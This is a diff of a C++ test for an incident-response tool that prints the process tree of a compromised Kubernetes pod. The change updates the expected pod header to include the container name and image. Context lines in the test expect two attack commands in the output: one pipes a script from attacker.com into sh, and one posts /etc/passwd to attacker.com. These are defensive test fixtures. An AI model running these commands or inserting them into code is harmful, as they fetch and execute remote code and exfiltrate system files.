@@ -138,8 +138,11 @@ TEST_CASE("incident in a pod: tree from the pod's topmost process, parent outsid
     CHECK(text.err == "");
     CHECK(golden_mismatch("incident_pod.txt", text.out) == "");
     // The story, independent of the golden.
-    CHECK(text.out.find("pod production/my-app-6d4f9-xk2p1 (uid " + kIncidentPodUid + ", container 4f1a2b3c4d5e)\n") ==
-          0);
+    // The workload as the responder knows it: the container's name and
+    // image, from containerd's bundle (the fixture's containers row).
+    CHECK(text.out.find("pod production/my-app-6d4f9-xk2p1  container my-app  image "
+                        "registry.example.test/shop/my-app:2.3.1  (4f1a2b3c4d5e)  (uid " +
+                        kIncidentPodUid + ")\n") == 0);
     CHECK(text.out.find("parent outside the pod: containerd-shim (PID 18150)\n") != std::string::npos);
     CHECK(text.out.find("sh -c \"curl http://attacker.com/payload.sh | sh\"") != std::string::npos);
     CHECK(text.out.find("curl http://attacker.com/exfil -d @/etc/passwd") != std::string::npos);
